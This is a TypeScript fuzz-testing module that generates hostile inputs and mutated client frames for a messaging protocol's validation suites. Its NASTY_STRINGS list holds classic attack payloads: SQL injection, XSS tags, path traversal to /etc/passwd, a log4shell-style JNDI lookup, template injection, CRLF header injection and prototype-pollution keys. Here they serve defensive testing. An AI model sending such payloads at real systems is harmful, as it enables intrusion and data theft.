import type { ClientFrame, ClientFrameType } from '@parley/protocol'
import fc from 'fast-check'

/**
 * Generators of hostile input for the fuzz suites: values that break naive validation (wrong types, SQL and
 * HTML, odd unicode, huge and negative numbers, deep nesting), garbage frame texts, and client frames of
 * every type with mutated fields.
 */

/** A generated frame text that prints shortened in a failure report (some are megabytes of brackets). */
export interface FuzzText {
  text: string
}

const PREVIEW_CHARS = 300

export function fuzzText(text: string): FuzzText {
  return {
    text,
    [fc.toStringMethod]: () =>
      text.length <= PREVIEW_CHARS
        ? JSON.stringify(text)
        : `${JSON.stringify(text.slice(0, PREVIEW_CHARS))}… (${text.length} chars)`,
  } as FuzzText
}

/** Strings that have broken parsers, queries, templates and logs elsewhere. */
export const NASTY_STRINGS = [
  '',
  ' ',
  "'; DROP TABLE tokens; --",
  '" OR "1"="1',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '%s%s%s%n',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style payload, on purpose
  '${jndi:ldap://example.invalid/a}',
  '{{constructor.constructor("return process")()}}',
  '\u0000',
  '\u202e\u0041\u0042',
  '\ud800',
  '😀👩‍👩‍👧‍👦',
  'ＡＢＣ',
  '\r\nSet-Cookie: a=b',
  '__proto__',
  'constructor',
  'prototype',
  'null',
  'undefined',
  'NaN',
  '-1',
  'did:key:z6MkhaXgBZDvotDkL5257faiztiGiC2QtKLGpbnnEGta2doK',
  'dlv_unknown',
  'cor_unknown',
  'str_unknown',
  'hs_unknown',
] as const

export const NASTY_NUMBERS = [
  -1,
  0,
  -0,
  0.5,
  -0.5,
  1,
  2 ** 31,
  2 ** 32,
  -(2 ** 31),
  Number.MAX_SAFE_INTEGER,
  Number.MAX_SAFE_INTEGER + 2,
  -Number.MAX_SAFE_INTEGER,
  1e308,
  -1e308,
  5e-324,
] as const

/** A JSON array nested `depth` levels deep. */
export function nestedArray(depth: number): unknown {
  let value: unknown = 0
  for (let level = 0; level < depth; level += 1) value = [value]
  return value
}

/** A JSON object nested `depth` levels deep. */
export function nestedObject(depth: number): unknown {
  let value: unknown = {}
  for (let level = 0; level < depth; level += 1) value = { a: value }
  return value
}

/** Any value a hostile client could put in a field. `maxBytes` bounds the huge strings. */
export function hostileValue(maxBytes: number): fc.Arbitrary<unknown> {
  return fc.oneof(
    fc.constantFrom(...NASTY_STRINGS),
    fc.constantFrom(...NASTY_NUMBERS),
    fc.string({ unit: 'binary', maxLength: 40 }),
    fc.string({ unit: 'grapheme', maxLength: 40 }),
    fc.integer(),
    fc.double(),
    fc.boolean(),
    fc.constant(null),
    fc.jsonValue({ maxDepth: 3 }),
    fc.array(fc.constantFrom(...NASTY_STRINGS), { maxLength: 5 }),
    fc.integer({ min: 0, max: maxBytes }).map((length) => 'x'.repeat(length)),
    fc.integer({ min: 1, max: 20_000 }).map(nestedArray),
    fc.integer({ min: 1, max: 5_000 }).map(nestedObject),
    // An own `__proto__` key, as JSON.parse builds it: must never reach a prototype.
    fc.constant('{"__proto__":{"polluted":true}}').map((text) => JSON.parse(text) as unknown),
  )
}

/** Frame texts that are not frames at all: broken JSON, non-objects, huge and deeply nested documents. */
export function garbageText(maxPayload: number): fc.Arbitrary<FuzzText> {
  return fc
    .oneof(
      fc.string({ unit: 'binary', maxLength: 200 }),
      fc.string({ unit: 'grapheme', maxLength: 200 }),
      fc.json({ maxDepth: 4 }),
      fc.jsonValue({ maxDepth: 4 }).map((value) => JSON.stringify(value).slice(0, -1)),
      fc.constantFrom(
        '',
        ' ',
        'null',
        'true',
        '[]',
        '{}',
        '"hello"',
        '{"type":null}',
        '{"type":{}}',
        '{"type":1}',
      ),
      fc.constantFrom(
        '{"type":"__proto__"}',
        '{"type":"constructor"}',
        '{"type":"toString"}',
        '{"type":"PING"}',
      ),
      fc.integer({ min: 1, max: 60_000 }).map((depth) => '['.repeat(depth) + ']'.repeat(depth)),
      fc.integer({ min: 1, max: 60_000 }).map((depth) => '['.repeat(depth)),
      // Around the limits: just under maxPayload, just over it, and over the transport's hard limit.
      fc
        .constantFrom(maxPayload - 40, maxPayload + 1, 4 * maxPayload + 1)
        .map((size) => `{"type":"publish","id":"big","channel":"fuzz","data":"${'x'.repeat(size)}"}`),
    )
    .map(fuzzText)
}

/** One valid frame of every client frame type: the seeds the mutations start from. */
export const SAMPLE_FRAMES = {
  hello: { type: 'hello', id: 'hello-1', protocol: { min: 1, max: 1 } },
  authenticate: {
    type: 'authenticate',
    id: 'auth-1',
    identity: 'did:key:z6MkhaXgBZDvotDkL5257faiztiGiC2QtKLGpbnnEGta2doK',
    nonce: 'nonce',
    timestamp: 1,
    signature: 'c2ln',
  },
  pairing_check: { type: 'pairing_check', id: 'pc-1', channelType: 'telegram', senderId: '42' },
  subscribe: { type: 'subscribe', id: 'sub-1', channel: 'fuzz.a' },
  unsubscribe: { type: 'unsubscribe', id: 'unsub-1', channel: 'fuzz.a' },
  publish: { type: 'publish', id: 'pub-1', channel: 'fuzz.a', data: { n: 1 } },
  broadcast: { type: 'broadcast', id: 'bc-1', data: 'all' },
  ping: { type: 'ping', id: 'ping-1', ts: 1 },
  pong: { type: 'pong', ts: 1 },
  send: { type: 'send', id: 'send-1', to: 'fuzz-peer', data: 1, receipt: true },
  ack: { type: 'ack', id: 'ack-1', deliveryIds: ['dlv_unknown'] },
  nack: { type: 'nack', id: 'nack-1', deliveryId: 'dlv_unknown', delayMs: 10 },
  presence_set: { type: 'presence_set', id: 'ps-1', status: 'busy', metadata: { a: 1 } },
  presence_get: { type: 'presence_get', id: 'pg-1' },
  agent_register: { type: 'agent_register', id: 'ar-1', agentId: 'fuzz-agent', capabilities: ['echo'] },
  agent_unregister: { type: 'agent_unregister', id: 'au-1' },
  agents_list: { type: 'agents_list', id: 'al-1' },
  request: { type: 'request', id: 'rq-1', target: 'fuzz-agent', data: 1, timeoutMs: 500 },
  respond: { type: 'respond', correlationId: 'cor_unknown', data: 1 },
  stream_open: { type: 'stream_open', id: 'so-1', target: { capability: 'echo' }, data: 1, credit: 2 },
  stream_chunk: { type: 'stream_chunk', streamId: 'str_unknown', seq: 1, data: 1 },
  stream_credit: { type: 'stream_credit', streamId: 'str_unknown', credit: 1 },
  stream_end: { type: 'stream_end', streamId: 'str_unknown' },
  stream_error: { type: 'stream_error', streamId: 'str_unknown', error: { code: 'x', message: 'y' } },
  stream_abort: { type: 'stream_abort', streamId: 'str_unknown', reason: 'fuzz' },
  agent_send: { type: 'agent_send', id: 'as-1', target: { broadcast: true }, data: 1 },
  introduce: { type: 'introduce', id: 'in-1', target: 'fuzz-agent', reason: 'fuzz' },
  introduction_answer: { type: 'introduction_answer', handshakeId: 'hs_unknown', accept: true },
  signal: { type: 'signal', id: 'sg-1', target: 'fuzz-peer', signal: { type: 'offer', sdp: 'v=0' } },
  state_get: { type: 'state_get', id: 'sget-1', namespace: 'fuzz', key: 'k' },
  state_set: { type: 'state_set', id: 'sset-1', namespace: 'fuzz', key: 'k', value: { v: 1 } },
  state_delete: { type: 'state_delete', id: 'sdel-1', namespace: 'fuzz', key: 'k', expectedVersion: 1 },
  state_list: { type: 'state_list', id: 'slist-1', namespace: 'fuzz', limit: 5 },
  state_history: { type: 'state_history', id: 'shist-1', namespace: 'fuzz', key: 'k', limit: 5 },
  state_watch: { type: 'state_watch', id: 'swatch-1', namespace: 'fuzz', key: 'k' },
  state_unwatch: { type: 'state_unwatch', id: 'sunwatch-1', namespace: 'fuzz' },
} as const satisfies { [T in ClientFrameType]: Extract<ClientFrame, { type: T }> }

const FRAME_TYPES = Object.keys(SAMPLE_FRAMES) as ClientFrameType[]

/** More seeds for the frames with several paths: `hello` with a token, an identity, a pairing or a resume. */
export const EXTRA_SAMPLE_FRAMES = [
  { type: 'hello', id: 'hello-token', protocol: { min: 1, max: 1 }, auth: { token: 'not-a-token' } },
  {
    type: 'hello',
    id: 'hello-identity',
    protocol: { min: 1, max: 1 },
    auth: { identity: 'did:key:z6MkhaXgBZDvotDkL5257faiztiGiC2QtKLGpbnnEGta2doK' },
  },
  {
    type: 'hello',
    id: 'hello-pairing',
    protocol: { min: 1, max: 1 },
    pairing: { device: { name: 'fuzz device', platform: 'fuzz' } },
  },
  { type: 'hello', id: 'hello-resume', protocol: { min: 1, max: 1 }, resume: { sessionId: 'ses_unknown' } },
  { type: 'hello', id: 'hello-future', protocol: { min: 2, max: 9 }, clientId: 'fuzz-client' },
  {
    type: 'subscribe',
    id: 'sub-since',
    channel: 'fuzz.a',
    since: { offset: 3, epoch: 'ep_unknown' },
    durable: true,
  },
  { type: 'request', id: 'rq-cap', target: { capability: 'echo' }, data: 1, idempotent: true, traceId: 't' },
  { type: 'agent_send', id: 'as-cap', target: { broadcast: { capability: 'echo' } }, data: 1 },
] as const satisfies readonly ClientFrame[]

const ALL_SEEDS: readonly object[] = [...Object.values(SAMPLE_FRAMES), ...EXTRA_SAMPLE_FRAMES]

type Mutation = (frame: Record<string, unknown>) => Record<string, unknown>

function mutation(maxBytes: number): fc.Arbitrary<Mutation> {
  const fieldName = fc.oneof(
    fc.constantFrom('type', 'id', 'data', 'channel', 'target', 'to', 'protocol', 'auth', 'streamId', 'seq'),
    fc.constantFrom('__proto__', 'constructor', 'toString', 'hasOwnProperty'),
    fc.string({ maxLength: 12 }),
  )
  return fc.oneof(
    // Replace a field that is there (or add one) with a hostile value.
    fc.tuple(fc.nat(), fieldName, hostileValue(maxBytes), fc.boolean()).map(
      ([index, name, value, existing]): Mutation =>
        (frame) => {
          const keys = Object.keys(frame)
          const key = existing && keys.length > 0 ? (keys[index % keys.length] as string) : name
          return withField(frame, key, value)
        },
    ),
    // Replace (or add) a field one level down, inside an object field such as `protocol` or `target`.
    fc.tuple(fc.nat(), fc.nat(), fieldName, hostileValue(maxBytes), fc.boolean()).map(
      ([outerIndex, innerIndex, name, value, existing]): Mutation =>
        (frame) => {
          const objectKeys = Object.keys(frame).filter((key) => isPlainObject(frame[key]))
          const outer = objectKeys[outerIndex % Math.max(1, objectKeys.length)]
          if (outer === undefined) return frame
          const inner = frame[outer] as Record<string, unknown>
          const innerKeys = Object.keys(inner)
          const key =
            existing && innerKeys.length > 0 ? (innerKeys[innerIndex % innerKeys.length] as string) : name
          return withField(frame, outer, withField(inner, key, value))
        },
    ),
    // Drop a field.
    fc.nat().map(
      (index): Mutation =>
        (frame) => {
          const keys = Object.keys(frame)
          if (keys.length === 0) return frame
          const copy = { ...frame }
          delete copy[keys[index % keys.length] as string]
          return copy
        },
    ),
    // Swap in a neighbouring type: the fields of one frame under the name of another.
    fc.constantFrom(...FRAME_TYPES).map(
      (type): Mutation =>
        (frame) => ({ ...frame, type }),
    ),
    // Unknown request ids and correlation ids that point nowhere.
    fc
      .constantFrom('id', 'correlationId', 'streamId', 'handshakeId', 'deliveryId')
      .chain((key) => fc.constantFrom(...NASTY_STRINGS).map((value) => [key, value] as const))
      .map(
        ([key, value]): Mutation =>
          (frame) =>
            key in frame ? withField(frame, key, value) : frame,
      ),
  )
}

function isPlainObject(value: unknown): value is Record<string, unknown> {
  return typeof value === 'object' && value !== null && !Array.isArray(value)
}

/** Sets a field as an own property, even `__proto__`, the way JSON.parse would. */
function withField(frame: Record<string, unknown>, key: string, value: unknown): Record<string, unknown> {
  const copy = { ...frame }
  Object.defineProperty(copy, key, { value, enumerable: true, writable: true, configurable: true })
  return copy
}

/** One of `seeds`, as is or with one to three mutated fields (a plain JSON object). */
export function mutatedObject(
  seeds: readonly object[],
  maxBytes: number,
): fc.Arbitrary<Record<string, unknown>> {
  return fc
    .tuple(fc.constantFrom(...seeds), fc.array(mutation(maxBytes), { minLength: 0, maxLength: 3 }))
    .map(([seed, mutations]) => {
      let value = structuredClone(seed) as Record<string, unknown>
      for (const mutate of mutations) value = mutate(value)
      return value
    })
}

/** A frame of any type, valid or with one to three mutated fields, as the JSON text a client would send. */
export function mutatedFrameText(maxBytes: number): fc.Arbitrary<FuzzText> {
  return mutatedObject(ALL_SEEDS, maxBytes).map((frame) => fuzzText(safeStringify(frame)))
}

/** JSON text of a value, or a stand-in when it cannot be serialised (nested past the stack). */
export function safeStringify(value: unknown): string {
  try {
    return JSON.stringify(value) ?? 'null'
  } catch {
    return '{"type":"publish","id":"too-deep","channel":"fuzz","data":"unserialisable"}'
  }
}

/** A valid frame of any type, as text: used in sequences where order, not shape, is under test. */
export function sampleFrameText(): fc.Arbitrary<FuzzText> {
  return fc.constantFrom(...ALL_SEEDS).map((frame) => fuzzText(JSON.stringify(frame)))
}
